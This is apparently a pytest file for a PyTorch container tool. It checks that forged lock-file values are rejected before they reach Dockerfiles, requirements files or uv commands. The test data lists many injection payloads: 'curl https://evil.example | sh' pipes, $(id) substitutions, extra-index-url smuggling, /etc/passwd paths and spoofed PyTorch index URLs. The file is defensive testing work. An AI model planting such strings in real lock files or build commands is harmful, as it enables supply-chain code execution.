"""Hostile locks (issue 17, item 8): every value of a lock is refused where the lock is read,
naming the file and the field path, before it can reach a Dockerfile's FROM or RUN line,
requirements.txt or uv's command line; the RUN lines quote each word all the same.

Each case starts from a real lock of this repository (tests/data/locks/cu130, the quickstart's
two-environment lock), changes one value in the parsed TOML and writes it back with its
content_hash recomputed, as someone editing it on purpose would: the hash never stops them.
"""

from __future__ import annotations

import copy
import dataclasses
import re
import shutil
import subprocess
import tomllib
from pathlib import Path
from typing import Any

import pytest
import tomli_w

from tests.conftest import REPO, run_cli
from torchship.errors import LockFileError, UsageError
from torchship.image import RenderOptions, render
from torchship.image import dockerfile as dockerfile_module
from torchship.lock import export_requirements, read_lock
from torchship.lock import model as lock_model
from torchship.lock.model import pin_base, requirement_lines
from torchship.lock.validate import is_pytorch_index, torch_version
from torchship.spec.load import spec_from_table
from torchship.spec.model import ImageOptions, Spec, content_hash

CU130 = REPO / "tests/data/locks/cu130"
TWO_ENVS = REPO / "examples/quickstart/torchship.lock"  # schema 2: [environments.cpu]
EVIL = "https://evil.example/simple"
HEX = "a" * 64


def load(path: Path) -> dict[str, Any]:
    return tomllib.loads(path.read_text("utf-8"))


def forge(data: dict[str, Any], path: Path, hashed: dict[str, Any] | None = None) -> Path:
    """Write `data` as a lock whose content_hash matches it (or `hashed`), as
    `Lock.content_hash` computes it: everything but content_hash and torchship_version."""
    body = {
        k: v for k, v in (hashed or data).items() if k not in ("content_hash", "torchship_version")
    }
    path.write_text(tomli_w.dumps({**data, "content_hash": content_hash(body)}), "utf-8")
    return path


def put(data: dict[str, Any], field: str, value: object) -> None:
    """Set `environments.cpu.package[0].version`-style paths in parsed TOML."""
    steps: list[str | int] = [
        int(s[1:-1]) if s.startswith("[") else s for s in re.findall(r"\[\d+\]|[^.\[\]]+", field)
    ]
    node: Any = data
    for step in steps[:-1]:
        node = node[step]
    node[steps[-1]] = value


def hostile_lock(tmp_path: Path, field: str, value: object, source: Path) -> Path:
    data = load(source)
    put(data, field, value)
    return forge(data, tmp_path / "torchship.lock")


def assert_refused(path: Path, field: str) -> LockFileError:
    with pytest.raises(LockFileError) as e:
        read_lock(path)
    err = e.value
    assert err.message.startswith(f"{path}:{field}"), err.message
    assert "\n" not in err.message and err.hint and "\n" not in err.hint
    assert err.exit_code == 2
    return err


def test_an_untouched_real_lock_forged_again_reads_back(tmp_path: Path) -> None:
    """The forging helper is faithful: with no change the lock reads as before."""
    for source in (CU130 / "torchship.lock", TWO_ENVS):
        forged = forge(load(source), tmp_path / "torchship.lock")
        assert read_lock(forged).content_hash == read_lock(source).content_hash


INJECTIONS = [
    "numpy --extra-index-url https://evil.example/simple",
    "numpy\n--extra-index-url https://evil.example/simple",
    "numpy; curl -s https://evil.example/x | sh",
    "numpy|sh",
    "$(curl -s https://evil.example/x)",
    "`id`",
    "-e",
    "-e git+https://evil.example/x#egg=numpy",
    "numpy @ file:///etc/passwd",
    "numpy#x",
    "numpy ",
]
VERSIONS = [
    "2.4.0 --extra-index-url https://evil.example/simple",
    "2.4.0\n--extra-index-url https://evil.example/simple",
    "2.4.0; sh -c id",
    "2.4.0|sh",
    "$(id)",
    "`id`",
    "-e",
    "2.4.0 @ file:///etc/passwd",
    "2.4.0#x",
    "2.4.0\n",
]
APT = [
    "git; curl -s https://evil.example/x | sh",
    "git && id",
    "$(id)",
    "`id`",
    "git|sh",
    "git\n",
    "-oAPT::Get::AllowUnauthenticated=true",
    "git > /etc/hosts",
]
IMAGES = [
    "ubuntu:24.04\nRUN curl -s https://evil.example/x | sh",
    "ubuntu:24.04 AS evil",
    "$BASE",
    "ubuntu:${TAG}",
    "ubuntu:$(id)",
    "nvidia/cuda",  # no tag: the lock pins one
    f"nvidia/cuda:13.0.3-base-ubuntu24.04@sha256:{HEX}",  # the digest lives in base_digest
]
URLS = [
    "file:///srv/wheels",
    "ftp://mirror.example/simple",
    f"https://download.pytorch.org/whl/cpu --extra-index-url {EVIL}",
    f"https://download.pytorch.org/whl/cpu\n--extra-index-url {EVIL}",
    "https://mirror.example/${AWS_SECRET_ACCESS_KEY}/simple",
    "https://mirror.example/$(id)/simple",
    "https://",
    "javascript:alert(1)",
    " https://pypi.org/simple",
    # user info: the host is evil.example, though the URL starts as the PyTorch index's does
    "https://download.pytorch.org@evil.example/whl/cu128",
    "https://download.pytorch.org:443@evil.example/whl/cu128",
    "https://token:x-oauth@mirror.example/simple",  # a credential in a shared file
]
HASHES = [
    "sha256:abc",
    "md5:" + "a" * 32,
    "sha256:" + "A" * 64,
    f"sha256:{HEX} --hash=sha256:{HEX}",
    f"sha256:{HEX}\n--extra-index-url {EVIL}",
    f"sha256:{HEX}\n",
]

CASES: list[tuple[str, object]] = [
    *(("package[0].name", v) for v in INJECTIONS),
    *(("package[3].version", v) for v in VERSIONS),
    *(("package[0].hashes", [v]) for v in HASHES),
    *(("spec.image.system_packages", [v]) for v in APT),
    *(("environment.base_image", v) for v in IMAGES),
    *(("environment.index_url", v) for v in URLS),
    *(("package[0].source", v) for v in URLS),
    ("environment.torch", "2.13.0 --pre"),
    ("environment.torch", "1!2.13.0"),  # an epoch: `1!2.13.0-cu130-…` is no image tag
    ("environment.python", "3.12; id"),
    ("environment.python", "3.12\n"),
    ("environment.platform", "x86_64-manylinux_2_28\n--index-url https://evil.example/simple"),
    ("environment.cuda", "13.0 && id"),
    ("environment.variant", "cu130; id"),
    ("environment.arch_list", ["sm_75; id"]),
    ("environment.min_driver", "580.65.06 $(id)"),
    ("environment.glibc_min", "2.28\n"),
    ("environment.cudnn", "9.20.0.48; id"),
    ("environment.nccl", "`id`"),
    ("environment.base_digest", "sha256:" + "a" * 63),
    ("environment.base_digest", f"sha256:{HEX}\n"),
    ("targets.gpus[0].name", "H100\nRUN id"),
    ("targets.gpus[0].cc", "9.0; id"),
    ("targets.driver", "580.95.05 $(id)"),
    ("name", "golden-cu130\nRUN id"),
    ("name", "golden cu130"),
    ("torchship_version", "0.1.0; id"),
    ("spec_hash", "sha256:zz"),
    ("package[0].file", "../../etc/passwd"),
    ("package[0].file", "torch-2.13.0-cp312-cp312-manylinux_2_28_x86_64.whl; id"),
    ("spec.name", "golden-cu130\n"),
    ("spec.packages", ["numpy>=2; curl https://evil.example | sh"]),
]


@pytest.mark.parametrize(("field", "value"), CASES, ids=[f"{f}={v!r}" for f, v in CASES])
def test_every_hostile_value_is_refused_where_the_lock_is_read(
    tmp_path: Path, field: str, value: object
) -> None:
    path = hostile_lock(tmp_path, field, value, CU130 / "torchship.lock")
    assert_refused(path, f"{field}[0]" if isinstance(value, list) else field)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("environments.cpu.index_url", URLS[2]),
        ("environments.cpu.index_url", "file:///srv/wheels"),
        ("environments.cpu.platform", "x86_64-manylinux_2_28 --index-url https://evil.example"),
        ("environments.cpu.torch", "2.13.0+cpu\n--extra-index-url https://evil.example"),
        ("environments.cpu.torch", "0!2.13.0+cpu"),
        ("environments.cpu.index_url", "https://download.pytorch.org@evil.example/whl/cpu"),
        ("environments.cpu.package[0].name", "numpy; sh"),
        ("environments.cpu.package[0].version", "1.0 --extra-index-url https://evil.example"),
        ("environments.cpu.package[0].hashes", []),
        ("environments.cpu.package[0].file", "/etc/passwd"),
    ],
)  # fmt: skip
def test_every_environment_of_a_schema_2_lock_is_held_to_the_same_rules(
    tmp_path: Path, field: str, value: object
) -> None:
    path = hostile_lock(tmp_path, field, value, TWO_ENVS)
    assert_refused(path, field)


def test_a_pin_without_hashes_is_refused(tmp_path: Path) -> None:
    path = hostile_lock(tmp_path, "package[0].hashes", [], CU130 / "torchship.lock")
    assert "is empty" in assert_refused(path, "package[0].hashes").message


def test_a_hostile_environment_name_never_reaches_a_field_path(tmp_path: Path) -> None:
    data = load(TWO_ENVS)
    data["environments"]["cpu\nRUN id"] = data["environments"].pop("cpu")
    err = assert_refused(forge(data, tmp_path / "torchship.lock"), "environments")
    assert "is not a build name" in err.message


@pytest.mark.parametrize(
    ("field", "suggestion"),
    [
        ("spec_hsh", "spec_hash"),
        ("extra_index_url", None),
        ("environment.index-url", "index_url"),
        ("environment.extra_index_url", "index_url"),
        ("targets.gpu", "gpus"),
        ("targets.gpus[0].ccc", "cc"),
        ("package[0].hash", "hashes"),
        ("spec.pakages", "packages"),
        ("spec.image.system_package", "system_packages"),
        ("spec.targets.drivers", "driver"),
    ],
)
def test_an_unknown_field_is_refused_with_the_closest_valid_name(
    tmp_path: Path, field: str, suggestion: str | None
) -> None:
    """Fields the lock does not know were ignored, and the content hash (computed over the
    fields it knows) did not cover them: `extra_index_url = …` read as if it were not there.
    Refused whichever way the hash is forged: over the file, or over the file without it."""
    for hashed in (False, True):
        data = load(CU130 / "torchship.lock")
        clean = copy.deepcopy(data)
        put(data, field, EVIL)
        path = forge(data, tmp_path / "torchship.lock", None if hashed else clean)
        err = assert_refused(path, field)
        assert "unknown field" in err.message
        if suggestion:
            assert f"did you mean {suggestion!r}?" in err.hint
        else:
            assert "the fields here are" in err.hint


@pytest.mark.parametrize(
    ("field", "suggestion"),
    [("environments.cpu.index-url", "index_url"), ("environments.cpu.package[0].sourc", "source")],
)
def test_unknown_fields_in_other_environments_too(
    tmp_path: Path, field: str, suggestion: str
) -> None:
    data = load(TWO_ENVS)
    clean = copy.deepcopy(data)
    put(data, field, EVIL)
    err = assert_refused(forge(data, tmp_path / "torchship.lock", clean), field)
    assert f"did you mean {suggestion!r}?" in err.hint


def _copy_project(tmp_path: Path) -> Path:
    project = tmp_path / "proj"
    shutil.copytree(CU130, project)
    return project


def test_lock_check_fails_when_the_locks_spec_was_edited_and_its_spec_hash_kept(
    tmp_path: Path,
) -> None:
    """`lock --check` compared the spec file with the stored spec_hash only: a lock whose
    [spec] asked for another apt package (installed by the image) passed it."""
    project = _copy_project(tmp_path)
    lock_file = project / "torchship.lock"
    data = load(lock_file)
    data["spec"]["image"]["system_packages"] = ["netcat-openbsd"]
    forge(data, lock_file)  # content_hash recomputed, spec_hash kept
    assert "spec_hash" in assert_refused(lock_file, "spec_hash").message
    r = run_cli("lock", "--check", str(project))
    assert r.returncode != 0, r.stdout
    lines = r.stderr.strip().splitlines()
    assert lines[0].startswith("error: ") and "spec_hash" in lines[0], r.stderr
    assert lines[1].startswith("hint: ") and len(lines) == 2 and "Traceback" not in r.stderr


def test_both_hashes_recomputed_pass_the_read_but_not_lock_check(tmp_path: Path) -> None:
    """What docs/lock.md says: content_hash and spec_hash are sums anyone can recompute, so a
    consistent forgery reads; `lock --check` against the spec beside it still names the edit."""
    project = _copy_project(tmp_path)
    lock_file = project / "torchship.lock"
    data = load(lock_file)
    data["spec"]["image"]["system_packages"] = ["netcat-openbsd"]
    data["spec_hash"] = spec_from_table(data["spec"], "x", "x", "spec.").spec_hash
    forge(data, lock_file)
    assert read_lock(lock_file).spec["image"]["system_packages"] == ["netcat-openbsd"]
    r = run_cli("lock", "--check", str(project))
    assert r.returncode == 1 and "image.system_packages" in r.stderr, r.stderr


def _real() -> Any:
    return read_lock(CU130 / "torchship.lock")


IN_MEMORY = {
    "base_image": lambda lk: dataclasses.replace(lk, base_image=IMAGES[0]),
    "index_url": lambda lk: dataclasses.replace(lk, index_url=URLS[2]),
    "python": lambda lk: dataclasses.replace(lk, python="3.12 && curl -s https://evil.example"),
    "platform": lambda lk: dataclasses.replace(lk, platform="x86_64-manylinux_2_28\n--pre"),
    "userinfo": lambda lk: dataclasses.replace(lk, index_url=URLS[9]),
    "epoch": lambda lk: dataclasses.replace(lk, torch="1!" + lk.torch),
    "version": lambda lk: dataclasses.replace(
        lk, packages=(dataclasses.replace(lk.packages[0], version=VERSIONS[1]),)
    ),
}


@pytest.mark.parametrize("name", sorted(IN_MEMORY))
def test_a_lock_made_in_memory_is_checked_before_it_is_rendered(name: str) -> None:
    """Rendering takes a Lock, which need not come from read_lock: the Dockerfile (its FROM,
    its `uv pip install` RUN line) and the requirements text are never made from a bad value."""
    lock = IN_MEMORY[name](_real())
    with pytest.raises(LockFileError):
        render(lock, RenderOptions(variant="runtime"))
    with pytest.raises(LockFileError):
        export_requirements(lock)


def test_apt_packages_of_a_lock_made_in_memory_are_checked_before_rendering() -> None:
    lock = _real()
    lock = dataclasses.replace(lock, spec={**lock.spec, "image": {"system_packages": [APT[0]]}})
    with pytest.raises(LockFileError, match="system_packages"):
        render(lock, RenderOptions(variant="runtime"))


@pytest.mark.parametrize(
    "package",
    [
        ("numpy --extra-index-url https://evil.example/simple", "2.4.0"),
        ("numpy", "2.4.0\n--extra-index-url https://evil.example/simple"),
        ("numpy", "2.4.0; sh"),
    ],
)
def test_requirement_lines_refuse_what_a_requirements_file_would_read_as_options(
    package: tuple[str, str],
) -> None:
    """`torchship sync` writes these lines for `uv pip sync`: no value becomes an option."""
    name, version = package
    lock = _real()
    bad = (dataclasses.replace(lock.packages[0], name=name, version=version),)
    with pytest.raises(LockFileError, match="cannot be written as a requirement"):
        requirement_lines(bad)


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("base_image", "ubuntu:24.04\nRUN id"),
        ("base_image", "ubuntu:24.04 AS x"),
        ("uv_image", "ghcr.io/astral-sh/uv:0.9.5\nRUN id"),
        ("python", "/usr/bin/python3; id"),
        ("python", "-m"),
        ("find_links", "wheels,target=/etc"),
        ("find_links", "../outside"),
        ("pytorch_index", f"https://mirror.example/whl --extra-index-url {EVIL}"),
    ],
)
def test_render_options_that_reach_from_and_run_are_checked(option: str, value: str) -> None:
    with pytest.raises(UsageError) as e:
        render(_real(), RenderOptions(**{option: value}))  # type: ignore[arg-type]
    assert "\n" not in e.value.message and e.value.hint


def test_the_options_the_e2e_tests_use_still_render() -> None:
    opts = RenderOptions(
        base_image="localhost/torchship-e2e-base:bookworm",
        python="/usr/bin/python3.11",
        uv_image="localhost/torchship-e2e-uv:local",
        find_links="wheels",
        pytorch_index="http://127.0.0.1:9/whl",
    )
    assert (
        "FROM localhost/torchship-e2e-base:bookworm AS builder" in render(_real(), opts).dockerfile
    )


SHELL_HOSTILE = ["$(touch pwned1)", "`touch pwned2`", "a b", "x; touch pwned3", "'q\"", "${HOME}"]


def _words(dockerfile: str, after: str, before: str = " \\") -> str:
    line = next(ln for ln in dockerfile.splitlines() if after in ln)
    return line.split(after, 1)[1].split(before, 1)[0]


def _shell_words(words: str, cwd: Path) -> list[str]:
    """What bash makes of `words` in a command line: one argument per line."""
    out = subprocess.run(
        ["bash", "-c", f"printf '%s\\n' {words}"],
        cwd=cwd,
        capture_output=True,
        text=True,
        check=True,
        timeout=30,
    )
    return out.stdout.splitlines()


def test_run_lines_quote_every_word_even_past_validation(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Defence in depth: with validation switched off, the words the lock puts in RUN lines
    (apt packages, the Python version, the index URL) are still one literal word each, run by
    bash as the image build would."""
    lock = _real()
    lock = dataclasses.replace(
        lock, python=SHELL_HOSTILE[0], index_url="https://x.example/$(touch pwned4)"
    )
    spec = Spec(
        name=lock.name,
        torch="2.13.0",
        python="3.12",
        image=ImageOptions(system_packages=tuple(SHELL_HOSTILE)),
    )
    # raising=False: the same test runs against the code before the checks existed
    for module, name, value in [
        (dockerfile_module, "check_fields", lambda lock, file: None),
        (dockerfile_module, "locked_spec", lambda lock, file: spec),
        (lock_model, "check_fields", lambda lock, file: None),
    ]:
        monkeypatch.setattr(module, name, value, raising=False)
    text = render(lock, RenderOptions(variant="runtime")).dockerfile
    apt = _shell_words(_words(text, "--no-install-recommends "), tmp_path)
    assert apt == sorted({"tini", "ca-certificates", *SHELL_HOSTILE})
    assert _shell_words(_words(text, "uv python install ", " && "), tmp_path) == [lock.python]
    assert _shell_words(_words(text, "--index-url "), tmp_path) == [lock.index_url]
    assert not list(tmp_path.iterdir())  # nothing ran: no pwned files


def test_pin_base_refuses_a_digest_with_a_trailing_newline(tmp_path: Path) -> None:
    """`^sha256:…$` with re.match let `sha256:<hex>\\n` through into `FROM base@digest`."""
    path = tmp_path / "torchship.lock"
    shutil.copy(CU130 / "torchship.lock", path)
    before = path.read_bytes()
    with pytest.raises(LockFileError):
        pin_base(read_lock(path), f"sha256:{HEX}\n", path)
    assert path.read_bytes() == before


@pytest.mark.parametrize(
    "command",
    [
        ["image", "render", "--variant", "runtime", "-o", "OUT"],
        ["export", "requirements", "-o", "OUT"],
    ],
)
def test_the_cli_says_one_line_and_writes_nothing(tmp_path: Path, command: list[str]) -> None:
    project = _copy_project(tmp_path)
    data = load(project / "torchship.lock")
    data["environment"] |= {"base_image": IMAGES[0], "index_url": URLS[2]}
    forge(data, project / "torchship.lock")
    out = tmp_path / "out"
    argv = [str(out) if a == "OUT" else a for a in command]
    r = run_cli(*argv[:2], str(project), *argv[2:])
    lines = r.stderr.strip().splitlines()
    assert r.returncode == 2, r.stdout + r.stderr
    assert len(lines) == 2 and lines[0].startswith("error: ") and lines[1].startswith("hint: ")
    assert "environment.base_image" in lines[0] and "Traceback" not in r.stderr
    assert not out.exists()


@pytest.mark.parametrize(
    ("url", "pytorch"),
    [
        ("https://download.pytorch.org/whl/cu128", True),
        ("https://DOWNLOAD.PYTORCH.ORG:443/whl/cu128", True),
        ("https://evil.example/download.pytorch.org/whl/cu128", False),
        ("https://download.pytorch.org.evil.example/whl/cu128", False),
        ("https://pypi.org/simple?download.pytorch.org", False),
        ("https://pypi.org/simple", False),
    ],
)
def test_the_pytorch_index_is_known_by_its_host_never_a_substring(url: str, pytorch: bool) -> None:
    assert is_pytorch_index(url) is pytorch
    lock = dataclasses.replace(_real(), index_url=url)
    assert ("--extra-index-url" in export_requirements(lock)) is pytorch


def test_a_torch_build_tag_is_fine_where_an_epoch_is_not() -> None:
    assert torch_version("2.13.0+cpu") == "2.13.0+cpu"
    assert torch_version("2.10.0.dev20250901+cu128") == "2.10.0.dev20250901+cu128"
    for bad in ("1!2.13.0", "0!2.13.0"):
        with pytest.raises(ValueError, match="epoch"):
            torch_version(bad)


def test_index_flags_of_lock_are_checked_like_the_lock() -> None:
    for flag in ("--pytorch-index", "--pypi-index"):
        r = run_cli("lock", str(REPO / "examples/quickstart"), "--dry-run", flag,
                    "https://download.pytorch.org@evil.example/whl")  # fmt: skip
        assert r.returncode == 2 and f"error: {flag}: " in r.stderr and "evil.example" in r.stderr
